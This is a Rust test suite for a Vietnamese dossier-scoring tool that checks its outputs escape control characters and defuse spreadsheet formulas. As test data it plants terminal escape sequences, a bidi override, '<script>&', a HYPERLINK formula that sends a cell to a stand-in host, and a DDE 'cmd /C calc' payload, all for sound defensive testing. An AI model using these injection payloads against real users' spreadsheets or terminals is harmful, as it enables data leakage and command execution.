//! Outputs that carry no injection: the fixture dossier `controls_and_formulas` (and its
//! 2025 year) plants, in its unit name, criteria names, level labels, values, notes, plan,
//! manifest file names and rankings, a Word line break (U+000B), terminal escape sequences
//! (`ESC[2J` clears the screen, `ESC]0;title BEL` retitles the window), a bidi override,
//! a C1 control, `<script>&`, and spreadsheet formulas. Every output is checked: charts
//! parse as XML, nothing printed carries a raw control character, CSV formulas are inert.

use crate::harness::{copy_dossier, data, run, run_in};
use std::fs;

const DOSSIER: &str = "tests/data/dossiers/controls_and_formulas";
const DOSSIER_2025: &str = "tests/data/dossiers/controls_and_formulas_2025";
const CRITERIA: &str = "tests/data/criteria/good/controls-and-formulas.json";
/// The unit name of both years, as `dossier.json` holds it.
const UNIT: &str = "Đơn vị\u{b}<script>&\u{1b}[2J\u{1b}]0;title\u{7}";

/// Characters a terminal obeys, written out independently of the code under test.
fn raw_controls(s: &str) -> Vec<char> {
    s.chars()
        .filter(|&c| {
            (c < ' ' && c != '\n' && c != '\t')
                || ('\u{7f}'..='\u{9f}').contains(&c)
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
        })
        .collect()
}

fn assert_no_raw_controls(what: &str, out: &str, err: &str) {
    assert_eq!(
        raw_controls(out),
        Vec::<char>::new(),
        "{what}: standard output\n{out}"
    );
    assert_eq!(
        raw_controls(err),
        Vec::<char>::new(),
        "{what}: standard error\n{err}"
    );
}

fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// The row of a CSV whose column `key` holds `value` (and, if given, column 3 holds `year`).
fn row<'a>(rows: &'a [Vec<String>], key: usize, value: &str, year: Option<&str>) -> &'a [String] {
    rows.iter()
        .find(|r| r[key] == value && year.is_none_or(|y| r[3] == y))
        .unwrap_or_else(|| panic!("no row {value} {year:?}"))
}

#[test]
fn charts_of_names_holding_control_characters_are_well_formed_xml_with_the_text_kept() {
    let dir = crate::harness::tempdir();
    let out = dir.path().join("charts");
    let (code, _, err) = run(&[
        "chart",
        DOSSIER,
        "--compare",
        DOSSIER_2025,
        "--out",
        out.to_str().unwrap(),
        "--png",
    ]);
    assert_eq!(code, 0, "{err}");
    let expected: [(&str, &[&str]); 3] = [
        (
            "areas",
            &[
                "Điểm theo lĩnh vực — Đơn vị <script>& [2J ]0;title , năm 2026",
                "1. Chỉ đạo CCHC <script>& [2J",
            ],
        ),
        (
            "gap",
            &[
                "1. Sở A [2J<script>&",
                "2. Sở B",
                "Ngưỡng hạng 1: 95,50 (Sở A [2J<script>&)",
                "Đơn vị <script>& [2J ]0;title  — dự kiến 2026",
            ],
        ),
        (
            "trend",
            &[
                "Diễn biến theo lĩnh vực — Đơn vị <script>& [2J ]0;title",
                "1. Chỉ đạo CCHC <script>& [2J",
            ],
        ),
    ];
    for (chart, texts) in expected {
        let svg = fs::read_to_string(out.join(format!("{chart}.svg"))).unwrap();
        let doc = roxmltree::Document::parse(&svg)
            .unwrap_or_else(|e| panic!("{chart}.svg is not XML: {e}"));
        let shown: Vec<&str> = doc
            .descendants()
            .filter_map(|n| n.text())
            .map(str::trim)
            .collect();
        for text in texts {
            assert!(
                shown.contains(text),
                "{chart}.svg lacks {text:?}: {shown:#?}"
            );
        }
        assert!(svg.contains("&lt;script&gt;&amp;"), "{chart}.svg");
        let png = fs::read(out.join(format!("{chart}.png"))).unwrap();
        assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"), "{chart}.png");
    }
}

#[test]
fn tables_csv_and_messages_show_escape_sequences_spelled_out() {
    let cases: [(&[&str], i32); 10] = [
        (&["score", DOSSIER], 0),
        (&["score", DOSSIER, "--format", "csv"], 0),
        (&["score", DOSSIER, "--explain", "1.1"], 0),
        (&["evidence", DOSSIER], 1),
        (&["gap", DOSSIER], 0),
        (&["compare", DOSSIER_2025, DOSSIER, "--detail"], 0),
        (&["compare", DOSSIER_2025, DOSSIER, "--format", "csv"], 0),
        (&["template", DOSSIER], 0),
        (&["criteria", "show", CRITERIA], 0),
        (&["criteria", "check", CRITERIA], 0),
    ];
    for (args, status) in cases {
        let what = args.join(" ");
        let (code, out, err) = run(args);
        assert_eq!(code, status, "{what}: {err}");
        assert_no_raw_controls(&what, &out, &err);
        assert!(
            out.contains("\\u{1b}[2J") || err.contains("\\u{1b}[2J"),
            "{what}:\n{out}{err}"
        );
    }
    let (_, out, _) = run(&["score", DOSSIER, "--width", "300"]);
    // The columns stay in line: cells are escaped before they are measured, so every row
    // of the table is as wide as the header.
    let lines: Vec<&str> = out.lines().collect();
    let rule = lines.iter().position(|l| l.starts_with('═')).unwrap();
    let end = rule
        + lines[rule..]
            .iter()
            .position(|l| l.starts_with('─'))
            .unwrap();
    let widths: Vec<usize> = std::iter::once(lines[rule - 1])
        .chain(lines[rule + 1..end].iter().copied())
        .map(|l| l.chars().count())
        .collect();
    assert_eq!(widths.len(), 10, "{out}");
    assert!(widths.iter().all(|w| *w == widths[0]), "{widths:?}\n{out}");
    assert!(out.starts_with("Đơn vị\\u{b}<script>&\\u{1b}[2J\\u{1b}]0;title\\u{7} — năm 2026"));
    assert!(
        out.contains("Ban hành kế hoạch\\u{1b}]0;title\\u{7}"),
        "{out}"
    );
    assert!(out.contains("Có\\u{1b}[2J"), "{out}");
    assert!(
        out.contains("Báo cáo\\u{202e}đảo chiều\\u{202c}\\u{9b}"),
        "{out}"
    );
    let (_, out, _) = run(&["evidence", DOSSIER, "--width", "300"]);
    assert!(
        out.contains(
            "tên \"ke-hoach\\u{1b}[2J.txt\" bị từ chối: ký tự \"\\u{1b}\" không được phép"
        ),
        "{out}"
    );
    let (_, out, _) = run(&["gap", DOSSIER, "--width", "300"]);
    assert!(out.contains("Sở A\\u{1b}[2J<script>&"), "{out}");
    let (_, out, _) = run(&["score", DOSSIER, "--explain", "1.1.1"]);
    assert!(out.contains("Kế hoạch\\u{1b}]0;title\\u{7}"), "{out}");
}

#[test]
fn json_outputs_escape_control_characters_and_keep_the_values() {
    let cases: [&[&str]; 5] = [
        &["score", DOSSIER, "--format", "json"],
        &["evidence", DOSSIER, "--format", "json"],
        &["gap", DOSSIER, "--format", "json"],
        &[
            "compare",
            DOSSIER_2025,
            DOSSIER,
            "--format",
            "json",
            "--detail",
        ],
        &["criteria", "check", CRITERIA, "--format", "json"],
    ];
    for args in cases {
        let what = args.join(" ");
        let (_, out, err) = run(args);
        assert_no_raw_controls(&what, &out, &err);
        assert!(out.contains("\\u001b[2J"), "{what}:\n{out}");
        serde_json::from_str::<serde_json::Value>(&out).unwrap_or_else(|e| panic!("{what}: {e}"));
    }
    let (_, out, _) = run(&["score", DOSSIER, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["unit"], UNIT);
    let name_of_1_2 = "Báo cáo\u{202e}đảo chiều\u{202c}\u{9b}";
    assert_eq!(v["items"][4]["name"], name_of_1_2);
    assert!(
        out.contains("\"Báo cáo\\u202eđảo chiều\\u202c\\u009b\""),
        "{out}"
    );
}

#[test]
fn an_error_quoting_a_value_shows_its_escape_and_its_newline_spelled_out() {
    let dir = copy_dossier("controls_and_formulas");
    let scores = dir.path().join("dossiers/controls_and_formulas/scores.csv");
    fs::write(
        &scores,
        "code,value,note\n1.2.1,\"19\u{1b}[2J\nscores.csv:9: ok\",x\n",
    )
    .unwrap();
    let (code, out, err) = run_in(dir.path(), &["score", "dossiers/controls_and_formulas"]);
    assert_eq!(code, 1);
    assert_eq!(out, "");
    // Two lines, not three: the planted newline cannot fake a line of its own.
    assert_eq!(
        err,
        "dossiers/controls_and_formulas/scores.csv:2: [1.2.1] \"19\\u{1b}[2J\\nscores.csv:9: ok\" \
         không phải tỷ lệ % (ví dụ 92,5 hoặc 45/48)\n1 lỗi, 0 cảnh báo\n"
    );
    let (code, out, err) = run_in(
        dir.path(),
        &[
            "score",
            "dossiers/controls_and_formulas",
            "--format",
            "json",
        ],
    );
    assert_eq!(code, 1);
    assert_no_raw_controls("score --format json", &out, &err);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        v["errors"][0]["message"],
        "\"19\u{1b}[2J\nscores.csv:9: ok\" không phải tỷ lệ % (ví dụ 92,5 hoặc 45/48)"
    );
}

#[test]
fn a_folder_or_a_criteria_code_holding_an_escape_is_named_spelled_out_in_the_error() {
    let dir = crate::harness::tempdir();
    let folder = "hồ sơ\u{1b}]0;title\u{7}";
    fs::create_dir(dir.path().join(folder)).unwrap();
    let (code, out, err) = run_in(dir.path(), &["score", folder]);
    assert_eq!(code, 2);
    assert_eq!(out, "");
    assert!(
        err.starts_with("hồ sơ\\u{1b}]0;title\\u{7}/dossier.json: "),
        "{err}"
    );
    assert_no_raw_controls("score", &out, &err);

    let mut criteria: serde_json::Value = serde_json::from_str(
        &fs::read_to_string(data("criteria/good/controls-and-formulas.json")).unwrap(),
    )
    .unwrap();
    criteria["areas"][1]["code"] = "8\u{1b}[2J".into();
    let file = dir.path().join("criteria.json");
    fs::write(&file, criteria.to_string()).unwrap();
    let (code, out, err) = run(&["criteria", "check", file.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_no_raw_controls("criteria check", &out, &err);
    let shown = file.display();
    assert!(
        err.contains(&format!(
            "{shown}: [8\\u{{1b}}[2J] mã lĩnh vực \"8\\u{{1b}}[2J\" phải là một số (1, 2, …)\n"
        )),
        "{err}"
    );
}

#[test]
fn seal_and_verify_name_files_holding_escapes_spelled_out() {
    let dir = copy_dossier("evidence_complete");
    let dossier = "dossiers/evidence_complete";
    let files = dir.path().join(dossier).join("files");
    fs::write(files.join("x\u{1b}]0;title\u{7}.txt"), "planted").unwrap();
    let (code, out, err) = run_in(dir.path(), &["seal", dossier]);
    assert_eq!(code, 0, "{err}");
    assert_no_raw_controls("seal", &out, &err);
    assert!(err.contains("files/x\\u{1b}]0;title\\u{7}.txt"), "{err}");
    fs::write(files.join("y\u{1b}[2J.txt"), "added").unwrap();
    let (code, out, err) = run_in(dir.path(), &["verify", dossier]);
    assert_eq!(code, 1, "{err}");
    assert_no_raw_controls("verify", &out, &err);
    assert!(
        out.contains("thêm mới, chưa được niêm phong: files/y\\u{1b}[2J.txt\n"),
        "{out}"
    );
}

#[test]
fn score_csv_puts_an_apostrophe_before_formulas_and_keeps_negative_numbers() {
    let (code, out, err) = run(&["score", DOSSIER, "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    let rows = csv_rows(&out);
    assert_eq!(rows[0][1], "name");
    assert_eq!(rows[0][11], "difference");
    assert_eq!(
        row(&rows, 0, "1.1", None)[1],
        "'=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"
    );
    let leaf = row(&rows, 0, "1.1.2", None);
    assert_eq!(leaf[1], "'@SUM(1+1)*cmd|'/C calc'!A0");
    assert_eq!(leaf[5], "Có\\u{1b}[2J");
    // appraised 0.75 against 1 self-assessed: a plain negative number, no apostrophe.
    assert_eq!(leaf[11], "-0.25");
    assert_eq!(row(&rows, 0, "1.2.2", None)[1], "'-2+3");
    assert_eq!(row(&rows, 0, "total", None)[11], "-0.35");
    // The 2025 year's value is a level labelled "=1+1".
    let (_, out, _) = run(&["score", DOSSIER_2025, "--format", "csv"]);
    let rows = csv_rows(&out);
    assert_eq!(row(&rows, 0, "1.1.2", None)[5], "'=1+1");
    assert_eq!(row(&rows, 0, "1.1.2", None)[6], "0.50");
}

#[test]
fn compare_csv_puts_an_apostrophe_before_formulas_and_keeps_negative_numbers() {
    let (code, out, err) = run(&[
        "compare",
        DOSSIER_2025,
        DOSSIER,
        "--format",
        "csv",
        "--detail",
    ]);
    assert_eq!(code, 0, "{err}");
    let rows = csv_rows(&out);
    assert_eq!(rows[0][10], "change_points");
    let leaf = row(&rows, 1, "1.1.2", Some("2026"));
    assert_eq!(leaf[2], "'@SUM(1+1)*cmd|'/C calc'!A0");
    assert_eq!(leaf[10], "0.25");
    assert_eq!(row(&rows, 1, "1.2.2", Some("2025"))[2], "'-2+3");
    let survey = row(&rows, 1, "8", Some("2026"));
    assert_eq!(
        (survey[10].as_str(), survey[11].as_str()),
        ("-0.10", "-5.00")
    );
}

#[test]
fn the_template_puts_an_apostrophe_before_formulas_on_screen_and_in_the_file() {
    let (code, out, err) = run(&["template", CRITERIA]);
    assert_eq!(code, 0, "{err}");
    let dir = crate::harness::tempdir();
    let file = dir.path().join("phieu.csv");
    let (code, _, err) = run(&["template", CRITERIA, "--out", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let written = String::from_utf8(fs::read(&file).unwrap()).unwrap();
    for text in [out, written] {
        assert_eq!(raw_controls(&text), Vec::<char>::new());
        let rows = csv_rows(&text);
        let leaf = row(&rows, 0, "1.1.2", None);
        assert_eq!(leaf[1], "'@SUM(1+1)*cmd|'/C calc'!A0");
        assert_eq!(
            leaf[3],
            "Có\\u{1b}[2J: 1 điểm; =1+1: 50% điểm tối đa (0,5 điểm); Không: 0 điểm"
        );
        assert_eq!(leaf[4], "#1 =HYPERLINK(\"http://x.example/?\"&A1,\"x\")");
        assert_eq!(row(&rows, 0, "1.2.2", None)[1], "'-2+3");
        assert_eq!(row(&rows, 0, "1.2.2", None)[2], "0.5");
    }
}

/// The apostrophes go only into the columns that help a person (`name`, `rule`, …); the
/// columns `score` reads (`code`, `value`, `note`) are codes or left blank, so a filled
/// sheet reads back with no apostrophe to strip.
#[test]
fn a_template_holding_formula_names_fills_in_and_scores() {
    let dir = copy_dossier("controls_and_formulas");
    let dossier = dir.path().join("dossiers/controls_and_formulas");
    let sheet = dossier.join("scores.csv");
    fs::remove_file(&sheet).unwrap();
    let (code, _, err) = run_in(
        dir.path(),
        &[
            "template",
            "dossiers/controls_and_formulas",
            "--out",
            "dossiers/controls_and_formulas/scores.csv",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let text = String::from_utf8(fs::read(&sheet).unwrap()).unwrap();
    let values = [
        ("1.1.1", "10/01/2026"),
        ("1.1.2", "Không"),
        ("1.2.1", "19/20"),
        ("1.2.2", "Tốt"),
        ("8.1", "85"),
    ];
    let mut writer = csv::Writer::from_writer(Vec::new());
    for mut r in csv_rows(&text) {
        if let Some((_, v)) = values.iter().find(|(c, _)| *c == r[0]) {
            r[5] = v.to_string();
        }
        writer.write_record(&r).unwrap();
    }
    fs::write(&sheet, writer.into_inner().unwrap()).unwrap();
    let (code, out, err) = run_in(
        dir.path(),
        &[
            "score",
            "dossiers/controls_and_formulas",
            "--format",
            "json",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    // self: 1 + 0 + 2 × 19/20 + 0.5 = 3.4; survey 2 × 85% = 1.7
    assert_eq!(v["total"]["self_achieved"], "3.40");
    assert_eq!(v["total"]["achieved"], "5.10");
}
